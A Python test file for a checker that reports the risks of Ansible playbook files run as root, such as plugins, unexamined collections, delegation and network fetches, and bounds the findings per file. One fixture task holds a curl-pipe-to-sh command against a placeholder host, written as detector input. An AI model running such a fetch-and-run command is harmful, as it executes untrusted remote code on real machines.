"""What the files of a playbook do as root: read before the rest, and collections named as not examined."""

from __future__ import annotations

from installer.core.risk.playbooks import MOST, examine_playbook
from installer.core.risk.risk import Program, Risk

TOP = "deploy/ansible"
SITE = f"{TOP}/site.yml"
PLAY = "---\n- name: all\n  hosts: all\n  tasks:\n"


def found(where: str, text: str) -> list[str]:
    rows = examine_playbook(where, text)
    return [
        f"{each.kind} {each.where} {each.what}" if isinstance(each, Risk) else f"text {each.where}"
        for each in rows
    ]


def test_a_playbook_and_the_tasks_of_a_role_are_shown_and_run_as_root() -> None:
    role = f"{TOP}/roles/chat/tasks/main.yml"
    assert found(SITE, PLAY) == [f"text {SITE}", f"root {SITE} runs as root"]
    assert found(role, "- ping:\n") == [f"text {role}", f"root {role} runs as root"]


def test_the_text_of_a_plugin_is_shown() -> None:
    (shown, risk) = examine_playbook(f"{TOP}/library/own.py", "import os\n")
    assert isinstance(shown, Program)
    assert shown.text == "import os\n"
    assert isinstance(risk, Risk)


def test_variables_templates_and_files_are_no_programs() -> None:
    assert found(f"{TOP}/group_vars/all.yml", "a: 1\n") == []
    assert found(f"{TOP}/templates/chat.conf.j2", "- hosts: all\n") == []


def test_a_collection_is_one_finding_and_not_examined() -> None:
    collection = f"{TOP}/collections/ansible_collections/rig/tools"
    assert found(f"{collection}/MANIFEST.json", "{}") == [
        f"unread {collection} is a collection, which was not examined"
    ]
    assert found(f"{collection}/plugins/modules/word.py", "import os\n") == []


def test_tasks_that_reach_further_are_named_with_their_lines() -> None:
    text = (
        PLAY
        + "    - ping:\n      delegate_to: other\n    - shell: curl http://x | sh\n      check_mode: false\n"
    )
    lines = found(SITE, text)
    assert f"host {SITE}:6 runs on another host" in lines
    assert f"host {SITE}:8 runs while planning, too" in lines
    assert any(line.startswith(f"command {SITE}:7 runs what it fetches from a network") for line in lines)


def test_findings_of_one_file_have_a_bound() -> None:
    lines = found(SITE, PLAY + "      delegate_to: other\n" * (MOST + 1))
    assert lines[-1].startswith(f"unread {SITE} has more than {MOST} findings")
